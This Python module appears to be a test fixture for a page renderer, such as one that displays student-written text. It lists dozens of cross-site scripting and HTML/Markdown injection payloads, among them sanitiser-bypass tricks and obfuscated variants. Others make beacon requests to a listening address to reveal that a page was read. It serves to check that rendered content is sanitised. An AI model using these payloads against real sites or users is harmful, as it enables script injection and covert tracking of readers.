"""What a student could write to run a script in a reader's browser, or to be told that the page was read.

{n} is the payload's number: a script that runs marks the page with it. {at} is an address that listens.
"""

RUN = "document.documentElement.setAttribute('data-ran-{n}', '1')"
PAYLOADS = [
    "<script>" + RUN + "</script>",
    "</code></pre><script>" + RUN + "</script>",
    "</textarea></title></style></script><script>" + RUN + "</script>",
    "<SCRIPT\n>" + RUN + "</SCRIPT\t>",
    "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
    '<img src=x onerror="' + RUN + '">',
    "<img/src=x/onerror=" + RUN + ">",
    "<svg onload=\"" + RUN + "\"></svg>",
    "<svg><script>" + RUN + "</script></svg>",
    "<svg><animate onbegin=\"" + RUN + "\" attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"" + RUN + "\">",
    "<body onload=\"" + RUN + "\">",
    "<details open ontoggle=\"" + RUN + "\"><summary>x</summary></details>",
    "<input autofocus onfocus=\"" + RUN + "\">",
    "<video><source onerror=\"" + RUN + "\"></video>",
    "<marquee onstart=\"" + RUN + "\">x</marquee>",
    "<iframe srcdoc=\"<script>parent." + RUN + "</script>\"></iframe>",
    "<iframe src=\"javascript:parent." + RUN + "\"></iframe>",
    "<object data=\"data:text/html,<script>" + RUN + "</script>\"></object>",
    "<embed src=\"javascript:" + RUN + "\">",
    "<a href=\"javascript:" + RUN + "\" autofocus onfocus=\"" + RUN + "\">x</a>",
    "[x](javascript:" + RUN + ")",
    "[x]( java\nscript:" + RUN + ")",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:" + RUN + ' "onerror=' + RUN + '")',
    "![x](x\"onerror=\"" + RUN + ")",
    "<style>@import url({at}/style{n}.css); body {{ background: url({at}/back{n}.png) }}</style>",
    "<link rel=stylesheet href={at}/link{n}.css>",
    "<img src={at}/img{n}.png>",
    "![x]({at}/md{n}.png)",
    "[x]({at}/link{n})",
    "<{at}/auto{n}>",
    "<meta http-equiv=refresh content=\"0;url={at}/refresh{n}\">",
    "<base href={at}/><form action={at}/form{n}><button>x</button></form>",
    "<template><script>" + RUN + "</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\">",
    "$\\href{{javascript:" + RUN + "}}{{x}}$ $$</script><script>" + RUN + "</script>$$",
    "`` ` ``<script>" + RUN + "</script>``",
    "```\n</code></pre><script>" + RUN + "</script>\n```",
    "<!--><script>" + RUN + "</script>-->",
    "<![CDATA[><script>" + RUN + "</script>]]>",
    "\u202e<script>\u2066" + RUN + "\u2069</script>\u202c",
    "\x00<scr\x00ipt>" + RUN + "</scr\x00ipt>\x1b]8;;{at}/osc{n}\x07x\x1b]8;;\x07",
    "{{{{ ''.__class__ }}}} {{% include 'x' %}}<script>" + RUN + "</script>",
]  # fmt: skip


def texts(at: str) -> list[str]:
    """The payloads, numbered, with an address that listens."""
    return [p.format(n=n, at=at) for n, p in enumerate(PAYLOADS)]


def staying(at: str) -> list[str]:
    """Those that do not lead away from the page, which would hide whether the others ran."""
    return [t for t in texts(at) if "http-equiv" not in t and "<base" not in t]
